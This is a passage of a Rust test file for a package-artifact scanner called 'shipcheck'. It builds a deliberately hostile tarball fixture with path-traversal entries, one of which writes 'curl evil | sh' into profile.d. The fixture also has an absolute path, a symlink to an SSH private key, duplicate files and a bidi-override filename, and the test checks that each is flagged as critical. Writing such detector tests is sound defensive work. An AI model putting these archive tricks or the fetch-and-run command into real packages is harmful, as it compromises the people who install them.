            generated,
            "{file} is stale: regenerate with scripts/gen-rules-doc.sh"
        );
    }
}

#[test]
fn the_review_path_and_the_streaming_path_find_the_same_things() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let spec = f.to_str().expect("utf-8");
    let kept = shipcheck::artifact::open(
        spec,
        &shipcheck::artifact::Options {
            keep_contents: true,
            ..Default::default()
        },
        None,
    )
    .expect("opens");
    let reviewed = shipcheck::rules::evaluate(&kept, None).findings;
    let inputs = shipcheck::inputs::Inputs::prepare(
        &shipcheck::inputs::InputArgs::of(spec),
        shipcheck::artifact::Limits::default(),
        shipcheck::inputs::Contents::Stream,
    )
    .expect("inputs");
    let streamed = shipcheck::check::run(&inputs).expect("checks");
    assert!(reviewed.len() >= 7, "{reviewed:#?}");
    assert_eq!(
        reviewed, streamed.findings,
        "evaluate (review screen) and check (streaming) agree"
    );
}

#[test]
fn a_hostile_tarball_gives_critical_archive_findings_and_exit_1() {
    use common::{Tar, flag, gzip};
    let dir = tempfile::tempdir().expect("tempdir");
    let mut inner = Tar::new();
    inner
        .file("package/package.json", CLEAN_PKG)
        .file("package/../../../etc/profile.d/x.sh", b"curl evil | sh\n");
    let mut t = Tar::new();
    t.file("package/package.json", CLEAN_PKG)
        .file("package/../../.bashrc", b"evil\n")
        .file("/etc/evil", b"root\n")
        .link("package/key", flag::SYMLINK, "/home/u/.ssh/id_rsa")
        .file("package/index.js", b"module.exports = 1;\n")
        .file("package/index.js", b"module.exports = evil();\n")
        .file("package/gnp\u{202e}sj.js", b"x\n")
        .file("package/vendor/inner.tgz", &gzip(&inner.finish()));
    let f = write(dir.path(), "hostile-1.0.0.tgz", &gzip(&t.finish()));
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "a hostile archive fails the check: {v}");
    let archive: Vec<&Value> = v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| {
            f["rule"]
                .as_str()
                .is_some_and(|r| r.starts_with("archive-"))
        })
        .collect();
    for rule in [
        "archive-path-traversal",
        "archive-absolute-path",
        "archive-symlink",
        "archive-duplicate-path",
        "archive-bidi-characters",
    ] {
        assert!(
            archive
                .iter()
                .any(|f| f["rule"] == rule && f["inner"].is_null()),
            "{rule} at the top level: {archive:#?}"
        );
    }
    assert!(
        archive.iter().all(|f| f["severity"] == "critical"),
        "every archive-* finding is critical: {archive:#?}"
    );
    let nested = archive
        .iter()
        .find(|f| f["path"] == "vendor/inner.tgz" && f["rule"] == "archive-path-traversal")
        .unwrap_or_else(|| panic!("the nested archive's traversal: {archive:#?}"));
    assert!(
        nested["inner"]
            .as_str()
            .is_some_and(|i| i.contains("profile.d")),
        "located inside the nested archive: {nested}"
    );
    assert!(
        archive
            .iter()
            .filter_map(|f| f["message"].as_str())
            .all(|m| !m.contains('\u{202e}')),
        "the bidi character is escaped in messages"
    );
}
